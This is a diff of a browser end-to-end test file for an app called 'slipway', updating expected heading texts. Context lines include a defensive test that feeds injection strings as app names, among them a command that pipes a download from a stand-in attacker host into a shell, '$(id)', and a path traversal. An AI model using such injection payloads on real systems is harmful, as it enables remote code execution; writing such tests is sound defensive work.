@@ -161,7 +161,7 @@ describe('a page of another origin', () => {
     const page = await tab.context.newPage();
     for (const name of ['x;curl%20evil.example%7Csh', '$(id)', '..%2F..%2Fdocs', 'A%0Aid']) {
       await page.goto(`${service.baseUrl}/apps/${name}/new`);
-      await page.getByRole('heading', { name: 'There is no such page' }).waitFor();
+      await page.getByRole('heading', { name: 'Page not found' }).waitFor();
       assert.equal(await page.getByText('slipway publish').count(), 0, name);
     }
     await page.close();
@@ -169,7 +169,7 @@ describe('a page of another origin', () => {
 
   test('leaves the user signed in', async () => {
     await tab.page.reload();
-    await tab.page.getByRole('heading', { name: 'Make your first app' }).waitFor();
+    await tab.page.getByRole('heading', { name: 'Create your first app' }).waitFor();
     // Browsers ignore COOP on plain HTTP other than localhost and log a warning; all other faults count.
     assert.deepEqual(
       tab.watch.faults().filter((fault) => !fault.includes('Cross-Origin-Opener-Policy')),
